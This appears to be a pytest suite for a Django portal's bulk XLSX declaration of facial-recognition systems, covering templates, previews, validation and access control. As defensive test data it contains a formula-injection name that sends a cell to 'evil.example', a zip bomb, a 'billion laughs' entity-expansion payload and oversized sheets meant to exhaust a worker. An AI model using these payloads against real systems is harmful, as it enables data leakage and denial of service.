"""Declaring many systems from an XLSX workbook: template, preview, confirm (issue 17)."""

import io
import re
import zipfile
from datetime import date

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from filings.documents import bulk_declarations
from filings.lifecycle import obligations
from filings.models import Obligation, RecognitionSystem, SystemDeclaration
from tests.factories import MembershipFactory, UserFactory

pytestmark = pytest.mark.django_db

HEADERS = [column.header for column in bulk_declarations.COLUMNS]


@pytest.fixture(autouse=True)
def _frozen_today():
    with time_machine.travel(date(2026, 3, 2), tick=False):
        yield


@pytest.fixture
def member():
    return MembershipFactory(role="editor", user__language="zh-hans")


@pytest.fixture
def filer(client, member):
    client.force_login(member.user)
    return client


def url(name, member):
    return reverse(name, args=[member.organization_id])


def xlsx(rows, headers=HEADERS, formula_at=None) -> SimpleUploadedFile:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(headers)
    for row in rows:
        sheet.append(list(row))
    if formula_at:
        sheet[formula_at] = "=1+1"
    output = io.BytesIO()
    workbook.save(output)
    return SimpleUploadedFile("systems.xlsx", output.getvalue())


def upload(client, member, file):
    return client.post(url("system_bulk", member), {"file": file})


def token_of(response) -> str:
    found = re.search(r'name="token" value="([^"]+)"', response.content.decode())
    assert found, "the preview offers no confirmation"
    return found.group(1)


def confirm(client, member, token):
    return client.post(url("system_bulk_confirm", member), {"token": token})


VALID = [
    ("前台闸机", 12_000, "否", date(2026, 2, 2)),
    ("员工考勤", 800, "是", "2026-01-05"),
]


def test_the_template_has_both_languages_headers_an_example_row_and_instructions(filer, member):
    obligations.declare_system(
        member.organization,
        member.user,
        name="门禁",
        people_stored=5_000,
        used_in_public_place=False,
        count_reached_on=date(2026, 1, 5),
    )
    response = filer.get(url("system_bulk_template", member))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.worksheets[0]
    headers = [cell.value for cell in sheet[1]]
    for chinese, english in [
        ("系统名称", "System name"),
        ("存储人脸信息的人数", "People whose facial information is stored"),
        ("是否在公共场所使用", "Used in a public place"),
        ("达到该人数的日期", "Date that number was reached"),
    ]:
        assert any(chinese in header and english in header for header in headers)
    example = [cell.value for cell in sheet[2]]
    assert example[0].startswith("示例")
    assert "Example" in example[0]
    assert example[1] == 12000
    assert [cell.value for cell in sheet[3]][:2] == ["门禁", 5000]  # the systems as they stand
    instructions = " ".join(
        str(cell.value) for row in workbook["说明 Instructions"].iter_rows() for cell in row
    )
    assert "系统名称是每行的键" in instructions
    assert "The system name is the key of each row" in instructions


FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'


def test_a_name_like_a_formula_is_written_into_the_template_as_text_and_round_trips(filer, member):
    """Issue 30: the name was written as a live formula, and the portal refused its own template."""
    system = obligations.declare_system(
        member.organization,
        member.user,
        name=FORMULA_NAME,
        people_stored=5_000,
        used_in_public_place=False,
        count_reached_on=date(2026, 1, 5),
    )
    content = filer.get(url("system_bulk_template", member)).content
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    assert "<f " not in sheet_xml
    cell = load_workbook(io.BytesIO(content)).worksheets[0]["A3"]
    assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
    rows, _columns = bulk_declarations.read_rows(content)
    assert [row.values["name"] for row in rows] == [FORMULA_NAME]
    # Uploaded again as it came: the row is the same system, unchanged, and nothing is refused.
    html = upload(filer, member, SimpleUploadedFile("t.xlsx", content)).content.decode()
    assert "不接受公式" not in html
    assert "该文件没有任何变化，无需确认" in html
    # With a new number, it updates that system and keeps its name.
    obligations.declare_system(
        member.organization,
        member.user,
        name=FORMULA_NAME,
        people_stored=7_000,
        used_in_public_place=False,
        count_reached_on=date(2026, 1, 5),
        system=system,
    )
    response = upload(filer, member, SimpleUploadedFile("t.xlsx", content))
    confirm(filer, member, token_of(response))
    system.refresh_from_db()
    assert (system.name, system.people_stored) == (FORMULA_NAME, 5_000)
    assert member.organization.systems.count() == 1


def test_a_valid_file_is_previewed_and_saved_only_when_confirmed(filer, member):
    response = upload(filer, member, xlsx(VALID))
    assert response.status_code == 200
    html = response.content.decode()
    assert "前台闸机" in html
    assert "员工考勤" in html
    assert "新系统：2" in html
    assert not RecognitionSystem.objects.exists()  # a preview saves nothing

    response = confirm(filer, member, token_of(response))
    assert response.status_code == 302
    systems = {s.name: s for s in member.organization.systems.all()}
    assert systems["前台闸机"].people_stored == 12_000
    assert systems["员工考勤"].used_in_public_place is True
    assert systems["员工考勤"].count_reached_on == date(2026, 1, 5)
    assert SystemDeclaration.objects.count() == 2
    # Through the same service as the form: the duty to file follows.
    duty = member.organization.obligations.get(status=Obligation.Status.OPEN)
    assert duty.trigger_date == date(2026, 1, 5)  # the public place, from its day
    assert "已申报 2 个系统" in filer.get(url("dashboard", member)).content.decode()


def test_a_preview_is_confirmed_once(filer, member):
    token = token_of(upload(filer, member, xlsx(VALID)))
    confirm(filer, member, token)
    response = confirm(filer, member, token)
    assert response.status_code == 302
    assert RecognitionSystem.objects.count() == 2
    assert "该预览已过期或已确认" in filer.get(response.url).content.decode()


def test_a_new_upload_replaces_the_preview_before_it(filer, member):
    earlier = token_of(upload(filer, member, xlsx(VALID)))
    upload(filer, member, xlsx([("另一个", 10, "否", "2026-02-02")]))
    confirm(filer, member, earlier)
    assert not RecognitionSystem.objects.exists()


def test_a_file_that_changes_nothing_has_nothing_to_confirm(filer, member):
    confirm(filer, member, token_of(upload(filer, member, xlsx(VALID))))
    html = upload(filer, member, xlsx(VALID)).content.decode()
    assert "该文件没有任何变化，无需确认" in html
    assert 'name="token"' not in html


def test_a_forged_token_or_another_organizations_preview_saves_nothing(filer, member):
    other = MembershipFactory(user=member.user, role="admin")
    token = token_of(upload(filer, member, xlsx(VALID)))
    confirm(filer, member, "forged")
    assert confirm(filer, member, "伪造的令牌").status_code == 302  # not ASCII: no 500 either
    confirm(filer, other, token)
    assert not RecognitionSystem.objects.exists()


def test_the_filled_in_template_round_trips_and_its_example_row_is_ignored(filer, member):
    content = filer.get(url("system_bulk_template", member)).content
    workbook = load_workbook(io.BytesIO(content))
    workbook.worksheets[0].append(["新闸机", 20_000, "否 no", date(2026, 2, 2)])
    output = io.BytesIO()
    workbook.save(output)
    response = upload(filer, member, SimpleUploadedFile("t.xlsx", output.getvalue()))
    confirm(filer, member, token_of(response))
    assert list(RecognitionSystem.objects.values_list("name", flat=True)) == ["新闸机"]


def test_one_bad_cell_saves_nothing_and_names_the_row_and_column_in_chinese(filer, member):
    rows = [*VALID, ("第三个", "一万二", "否", "2026-02-02")]
    response = upload(filer, member, xlsx(rows))
    html = response.content.decode()
    assert "第 4 行，B 列（存储人脸信息的人数）：请输入整数" in html
    assert "未保存任何内容" in html
    assert 'name="token"' not in html
    assert not RecognitionSystem.objects.exists()


def test_one_bad_cell_is_named_in_english_for_an_english_reader(filer, member):
    filer.cookies["portal_language"] = "en"
    rows = [*VALID, ("Third", "12k", "maybe", "2026-13-01")]
    html = upload(filer, member, xlsx(rows)).content.decode()
    messages = [
        "Row 4, column B (People whose facial information is stored): Enter a whole number",
        "Row 4, column C (Used in a public place): Enter 是 or 否 (yes or no).",
        "Row 4, column D (Date that number was reached): Enter a valid date.",
    ]
    positions = [html.find(message) for message in messages]
    assert -1 not in positions
    assert positions == sorted(positions)  # from left to right, as in the sheet
    assert not RecognitionSystem.objects.exists()


def test_the_forms_rules_apply_to_every_row(filer, member):
    rows = [
        ("", 100, "否", "2026-02-02"),  # no name
        ("负数", -1, "否", "2026-02-02"),
        ("将来", 100, "否", "2026-12-31"),
        ("太久", 100, "否", "1989-12-31"),
        ("长" * 101, 100, "否", "2026-02-02"),
        ("前台闸机", 3_000_000_000, "否", "2026-02-02"),
    ]
    html = upload(filer, member, xlsx(rows)).content.decode()
    assert "第 2 行，A 列" in html
    assert "第 3 行，B 列（存储人脸信息的人数）：人数不能为负数" in html
    assert "第 4 行，D 列" in html
    assert "日期在未来" in html
    assert "第 5 行，D 列" in html
    assert "第 6 行，A 列" in html
    assert "第 7 行，B 列" in html
    assert not RecognitionSystem.objects.exists()


def test_a_name_twice_in_the_file_is_an_error_on_the_second_row(filer, member):
    html = upload(filer, member, xlsx([VALID[0], VALID[0]])).content.decode()
    assert "第 3 行，A 列（系统名称）：该名称已出现在第 2 行" in html


def test_updating_an_existing_system_by_its_name(filer, member):
    system = obligations.declare_system(
        member.organization,
        member.user,
        name="门禁",
        people_stored=5_000,
        used_in_public_place=False,
        count_reached_on=date(2026, 1, 5),
    )
    unchanged = obligations.declare_system(
        member.organization,
        member.user,
        name="考勤",
        people_stored=100,
        used_in_public_place=False,
        count_reached_on=date(2026, 1, 5),
    )
    rows = [
        ("门禁", 15_000, "否", "2026-02-02"),
        ("考勤", 100, "否", "2026-01-05"),
        ("新系统", 10, "否", "2026-02-02"),
    ]
    response = upload(filer, member, xlsx(rows))
    html = response.content.decode()
    assert "新系统：1 · 更新的系统：1 · 未变化：1" in html
    assert re.search(r"<del>5,?000</del> → 15,?000", html)  # grouped as the locale groups
    confirm(filer, member, token_of(response))
    system.refresh_from_db()
    assert system.people_stored == 15_000
    assert member.organization.systems.count() == 3
    assert unchanged.declarations.count() == 1  # not declared again
    assert system.declarations.count() == 2
    assert member.organization.obligations.get(status="open").trigger_date == date(2026, 2, 2)


def test_a_system_changed_between_preview_and_confirmation_is_previewed_again(filer, member):
    response = upload(filer, member, xlsx([("门禁", 15_000, "否", "2026-02-02")]))
    obligations.declare_system(  # meanwhile, a colleague declares it on the form
        member.organization,
        member.user,
        name="门禁",
        people_stored=5_000,
        used_in_public_place=False,
        count_reached_on=date(2026, 1, 5),
    )
    response = confirm(filer, member, token_of(response))
    assert response.status_code == 200
    assert "预览之后您的系统发生了变化" in response.content.decode()
    assert member.organization.systems.get().people_stored == 5_000
    confirm(filer, member, token_of(response))
    assert member.organization.systems.get().people_stored == 15_000


def refused(client, member, file) -> str:
    response = upload(client, member, file)
    assert response.status_code in (200, 400)
    assert not RecognitionSystem.objects.exists()
    return response.content.decode()


def test_a_file_that_is_not_xlsx_is_refused(filer, member):
    assert "这不是 XLSX 文件" in refused(
        filer, member, SimpleUploadedFile("a.xlsx", b"%PDF-1.7 not a workbook")
    )
    assert "这不是 XLSX 文件" in refused(
        filer, member, SimpleUploadedFile("a.csv", "系统名称,人数\n门禁,12000\n".encode())
    )
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("hello.txt", "not a workbook")
    assert "这不是 XLSX 文件" in refused(
        filer, member, SimpleUploadedFile("a.xlsx", archive.getvalue())
    )
    damaged = xlsx(VALID).read()[:2000]
    assert "无法读取该文件" in refused(filer, member, SimpleUploadedFile("a.xlsx", damaged))
    assert refused(filer, member, SimpleUploadedFile("a.xlsx", b""))


def test_a_post_without_a_file_is_answered_not_a_500(filer, member):
    response = filer.post(url("system_bulk", member), {})
    assert response.status_code == 400
    assert 'id="bulk-refused"' in response.content.decode()  # the file field's message, shown


def test_a_huge_file_is_refused(filer, member):
    big = SimpleUploadedFile("big.xlsx", b"PK\x03\x04" + b"\0" * (6 * 1024 * 1024))
    assert "文件超过 5 MB" in refused(filer, member, big)


def test_a_zip_bomb_is_refused_before_it_is_unpacked(filer, member):
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr("xl/workbook.xml", "<workbook/>")
        zipped.writestr("xl/worksheets/sheet1.xml", "\0" * (80 * 1024 * 1024))
    assert "解压后过大" in refused(filer, member, SimpleUploadedFile("a.xlsx", archive.getvalue()))


def test_a_formula_is_refused_in_its_cell(filer, member):
    html = refused(filer, member, xlsx(VALID, formula_at="B3"))
    assert "第 3 行，B 列（存储人脸信息的人数）：不接受公式" in html


def test_a_file_without_the_templates_headers_or_rows_is_refused(filer, member):
    assert "第一行必须是模板的表头" in refused(filer, member, xlsx(VALID, headers=["a", "b"]))
    assert "文件中没有任何系统" in refused(filer, member, xlsx([]))


def test_english_and_chinese_only_headers_are_understood(filer, member):
    english = [column.english for column in bulk_declarations.COLUMNS]
    response = upload(filer, member, xlsx(VALID, headers=english))
    assert 'name="token"' in response.content.decode()
    chinese = [column.chinese for column in bulk_declarations.COLUMNS]
    response = upload(filer, member, xlsx(VALID, headers=chinese))
    assert 'name="token"' in response.content.decode()


@pytest.mark.parametrize("role", ["viewer"])
def test_a_viewer_cannot_download_upload_or_confirm(client, member, role):
    viewer = MembershipFactory(organization=member.organization, role=role)
    client.force_login(viewer.user)
    assert client.get(url("system_bulk_template", member)).status_code == 403
    assert client.get(url("system_bulk", member)).status_code == 403
    assert upload(client, member, xlsx(VALID)).status_code == 403
    assert confirm(client, member, "x").status_code == 403
    assert not RecognitionSystem.objects.exists()


def test_another_organizations_member_cannot_see_or_upload(client, member):
    stranger = MembershipFactory(role="admin")
    client.force_login(stranger.user)
    assert client.get(url("system_bulk_template", member)).status_code == 404
    assert client.get(url("system_bulk", member)).status_code == 404
    assert upload(client, member, xlsx(VALID)).status_code == 404
    assert confirm(client, member, "x").status_code == 404
    assert not RecognitionSystem.objects.exists()


def test_anonymous_visitors_are_sent_to_log_in(client, member):
    assert client.get(url("system_bulk", member)).status_code == 302
    assert client.post(url("system_bulk_confirm", member), {"token": "x"}).status_code == 302


def test_the_dashboard_links_the_bulk_declaration_for_editors(filer, member):
    assert url("system_bulk", member) in filer.get(url("dashboard", member)).content.decode()


def test_after_filing_a_bulk_update_prompts_a_change_filing_as_the_form_does(client):
    from filings.documents import attachments
    from filings.lifecycle import services
    from tests.filing_data import complete_filing, mark_complete
    from tests.pdfs import pdf_bytes

    membership = MembershipFactory(role="admin")
    gate = obligations.declare_system(
        membership.organization,
        membership.user,
        name="门禁",
        people_stored=12_000,
        used_in_public_place=False,
        count_reached_on=date(2026, 2, 2),
    )
    filing = services.start_initial_filing(membership.organization, membership.user)
    filing.data = complete_filing()
    mark_complete(filing)
    attachments.store(
        filing, membership.user, "assessment_report", SimpleUploadedFile("r.pdf", pdf_bytes())
    )
    services.submit_filing(filing.pk, membership.user)
    services.approve_filing(filing.pk, UserFactory(is_staff=True))
    client.force_login(membership.user)
    rows = [("门禁", 15_000, "否", "2026-02-16"), ("新闸机", 300, "否", "2026-02-20")]
    confirm(client, membership, token_of(upload(client, membership, xlsx(rows))))

    gate.refresh_from_db()
    assert gate.people_stored == 15_000
    change = Obligation.objects.get(organization=membership.organization, kind="change")
    assert change.status == Obligation.Status.OPEN
    assert change.trigger_date == date(2026, 2, 16)
    assert "15,000" in change.reason
    notes = list(change.events.values_list("note", flat=True))
    assert len(notes) == 2
    assert "新闸机" in notes[1]


def test_columns_are_found_by_their_headers_in_any_order(filer, member):
    order = [3, 0, 2, 1]
    headers = [HEADERS[i] for i in order]
    example = [bulk_declarations.EXAMPLE[i] for i in order]
    rows = [example, *([row[i] for i in order] for row in VALID)]
    response = upload(filer, member, xlsx(rows, headers=headers))
    confirm(filer, member, token_of(response))
    assert sorted(RecognitionSystem.objects.values_list("name", "people_stored")) == [
        ("前台闸机", 12_000),
        ("员工考勤", 800),
    ]


def test_more_rows_than_the_limit_are_refused(filer, member, monkeypatch):
    monkeypatch.setattr(bulk_declarations, "MAX_ROWS", 2)
    rows = [*VALID, ("第三个", 10, "否", "2026-02-02")]
    assert "文件中的系统超过 2 个" in refused(filer, member, xlsx(rows))
    monkeypatch.setattr(bulk_declarations, "MAX_LINES", 5)
    blank = [("", "", "", "")] * 10
    assert "文件中的系统超过 2 个" in refused(filer, member, xlsx([VALID[0], *blank]))


def test_declare_systems_saves_all_rows_or_none(member, monkeypatch):
    record = obligations._record_system
    calls = []

    def failing_on_the_third(*args, **kwargs):
        calls.append(kwargs["name"])
        if len(calls) == 3:
            raise RuntimeError("the database went away")
        return record(*args, **kwargs)

    monkeypatch.setattr(obligations, "_record_system", failing_on_the_third)
    rows = [
        {
            "name": f"系统{n}",
            "people_stored": 20_000,
            "used_in_public_place": False,
            "count_reached_on": date(2026, 2, 2),
        }
        for n in range(4)
    ]
    with pytest.raises(RuntimeError):
        obligations.declare_systems(member.organization, member.user, rows)
    assert not RecognitionSystem.objects.exists()
    assert not SystemDeclaration.objects.exists()
    assert not Obligation.objects.exists()


# --- Files built to take the web worker down (issue 30) -------------------------------------------

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def with_sheet(sheet_data: bytes) -> bytes:
    """A workbook made by openpyxl whose systems sheet is replaced by ``sheet_data`` (the inside
    of ``<sheetData>``), zipped as Excel zips it."""
    workbook = Workbook()
    workbook.active.title = bulk_declarations.SHEET_TITLE
    workbook.active.append(HEADERS)
    output = io.BytesIO()
    workbook.save(output)
    source = zipfile.ZipFile(io.BytesIO(output.getvalue()))
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zipped:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                opening = f'<?xml version="1.0"?><worksheet xmlns="{MAIN}"><sheetData>'
                data = opening.encode() + sheet_data + b"</sheetData></worksheet>"
            zipped.writestr(item.filename, data)
    return archive.getvalue()


def measured_upload(client, member, content: bytes) -> tuple[str, float]:
    """The page's text and the peak of memory the upload allocated (MB). How fast it is refused
    is a benchmark's business (bench/bench_xlsx_payloads.py), not a timed assertion here: the
    tests show where the reader stops, which is what makes it fast whatever the file holds."""
    import tracemalloc

    html = refused(client, member, SimpleUploadedFile("systems.xlsx", content))
    tracemalloc.start()
    try:
        refused(client, member, SimpleUploadedFile("systems.xlsx", content))
        peak = tracemalloc.get_traced_memory()[1] / 1e6
    finally:
        tracemalloc.stop()
    return html, peak


def budget_at_the_stop(content: bytes):
    """The reader's counts when it refused the sheet."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        reader = bulk_declarations.SheetReader(archive)
        with pytest.raises(bulk_declarations.FileRefused):
            list(reader.lines())
    return reader.budget


def refused_before_parsing(content: bytes) -> bool:
    """Refused by the archive's declared sizes and its markup count, before any parser runs."""
    try:
        bulk_declarations.check_file(SimpleUploadedFile("systems.xlsx", content))
    except bulk_declarations.FileRefused:
        return True
    return False


def test_one_row_of_14_5_million_empty_cells_is_refused_at_once(filer, member):
    """58 KB zipped: openpyxl ran 30 s and grew the worker to 1 GB before the row cap applied."""
    content = with_sheet(b'<row r="1">' + b"<c/>" * 14_500_000 + b"</row>")
    assert len(content) < 70_000
    html, peak = measured_upload(filer, member, content)
    assert "该工作簿解压后过大" in html
    assert refused_before_parsing(content)
    assert peak < 100, peak


def test_three_million_empty_rows_are_refused_at_once(filer, member):
    """28 KB zipped: 7.4 s and 250 MB before."""
    content = with_sheet(b"<row/>" * 3_000_000)
    assert len(content) < 40_000
    html, peak = measured_upload(filer, member, content)
    assert "该工作簿解压后过大" in html
    assert refused_before_parsing(content)
    assert peak < 100, peak


def test_the_cells_are_counted_as_the_sheet_is_read_with_a_hard_stop(filer, member):
    """Small enough unpacked to be read, too many cells to be a file of systems: the reader stops
    at the first cell past the limit, whatever follows."""
    limit = bulk_declarations.MAX_CELLS
    header = b"".join(
        b'<c t="inlineStr"><is><t>%s</t></is></c>' % column.header.encode()
        for column in bulk_declarations.COLUMNS
    )
    content = with_sheet(
        b'<row r="1">' + header + b'</row><row r="2">' + b"<c/>" * (limit + 10) + b"</row>"
    )
    html, _peak = measured_upload(filer, member, content)
    assert "单元格超过 40,000 个" in html
    budget = budget_at_the_stop(content)
    assert budget.cells == limit + 1  # the first cell past the limit; the 9 after it unread


def test_the_rows_are_counted_as_the_sheet_is_read_with_a_hard_stop(filer, member):
    content = with_sheet(b"<row/>" * (bulk_declarations.MAX_LINES + 10))
    html, _peak = measured_upload(filer, member, content)
    assert "文件中的系统超过 5000 个" in html
    assert budget_at_the_stop(content).rows == bulk_declarations.MAX_LINES + 1
    # A row numbered past the limit is not preceded by the empty rows it implies.
    far = with_sheet(b'<row r="1"><c/></row><row r="1048576"><c/></row>')
    assert "文件中的系统超过 5000 个" in refused(filer, member, SimpleUploadedFile("a.xlsx", far))


def test_a_document_type_in_a_part_is_refused(filer, member):
    """Entity expansion ("billion laughs") has no place in a workbook."""
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    )
    source = zipfile.ZipFile(io.BytesIO(with_sheet(b"")))
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = laughs + data.split(b"?>", 1)[1].replace(
                    b"<sheetData>", b"<sheetData>&lol2;"
                )
            zipped.writestr(item.filename, data)
    assert "无法读取该文件" in refused(
        filer, member, SimpleUploadedFile("a.xlsx", archive.getvalue())
    )


EXCEL_PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/></Types>'
    ),
    "xl/workbook.xml": (
        f'<x:workbook xmlns:x="{MAIN}" xmlns:r="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships"><x:workbookPr/><x:sheets>'
        '<x:sheet name="说明 Instructions" sheetId="2" r:id="rId2"/>'
        '<x:sheet name="系统 Systems" sheetId="1" r:id="rId1"/></x:sheets></x:workbook>'
    ),
    "xl/_rels/workbook.xml.rels": (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="worksheet" Target="worksheets/systems.xml"/>'
        '<Relationship Id="rId2" Type="worksheet" Target="/xl/worksheets/notes.xml"/>'
        "</Relationships>"
    ),
    "xl/sharedStrings.xml": (
        f'<sst xmlns="{MAIN}" count="7" uniqueCount="7">'
        "<si><t>系统名称\nSystem name</t></si>"
        "<si><t>存储人脸信息的人数\nPeople whose facial information is stored</t></si>"
        "<si><t>是否在公共场所使用\nUsed in a public place</t></si>"
        "<si><t>达到该人数的日期\nDate that number was reached</t></si>"
        # Rich text in two runs, with a pronunciation guide that is not part of the text.
        "<si><r><t>前台</t></r><r><rPr><b/></rPr><t>闸机</t></r>"
        "<rPh sb='0' eb='2'><t>QIANTAI</t></rPh></si>"
        "<si><t>是</t></si><si><t>说明</t></si></sst>"
    ),
    "xl/styles.xml": (
        f'<styleSheet xmlns="{MAIN}"><numFmts count="1">'
        '<numFmt numFmtId="170" formatCode="yyyy/m/d;@"/></numFmts>'
        '<cellXfs count="3"><xf numFmtId="0"/><xf numFmtId="170"/><xf numFmtId="14"/>'
        "</cellXfs></styleSheet>"
    ),
    "xl/worksheets/systems.xml": (
        f'<worksheet xmlns="{MAIN}"><dimension ref="A1:D3"/><sheetData>'
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c>'
        '<c r="C1" t="s"><v>2</v></c><c r="D1" t="s"><v>3</v></c></row>'
        '<row r="2"><c r="A2" t="s"><v>4</v></c><c r="B2"><v>12000</v></c>'
        '<c r="C2" t="b"><v>1</v></c><c r="D2" s="1"><v>46024</v></c></row>'
        '<row r="4"><c r="A4" t="inlineStr"><is><t>员工考勤</t></is></c><c r="B4"><v>8E2</v></c>'
        '<c r="C4" t="s"><v>5</v></c><c r="D4" s="2"><v>46027</v></c>'
        '<c r="AZ4"><v>1</v></c></row></sheetData></worksheet>'
    ),
    "xl/worksheets/notes.xml": (
        f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c t="s"><v>6</v></c></row>'
        "</sheetData></worksheet>"
    ),
}


def test_a_workbook_as_excel_writes_it_is_read(filer, member):
    """Shared strings (rich text, a pronunciation guide), dates by their number format, booleans,
    numbers in exponent form, a skipped row, a cell past the columns read, prefixed names, and the
    systems sheet found by its name wherever it is."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, text in EXCEL_PARTS.items():
            zipped.writestr(name, text)
    response = upload(filer, member, SimpleUploadedFile("excel.xlsx", archive.getvalue()))
    confirm(filer, member, token_of(response))
    systems = RecognitionSystem.objects.order_by("name")
    assert [
        (s.name, s.people_stored, s.used_in_public_place, s.count_reached_on) for s in systems
    ] == [
        ("前台闸机", 12_000, True, date(2026, 1, 2)),
        ("员工考勤", 800, True, date(2026, 1, 5)),
    ]


def test_reading_stops_at_its_time_limit_whatever_the_file_holds(filer, member, monkeypatch):
    """The last stop: past READ_SECONDS the reader gives up, so no file holds a worker longer."""
    monkeypatch.setattr(bulk_declarations, "READ_SECONDS", 0)
    content = with_sheet(b'<row r="1">' + b"<x/>" * 10_000 + b"</row>")
    assert "该工作簿解压后过大" in refused(filer, member, SimpleUploadedFile("a.xlsx", content))
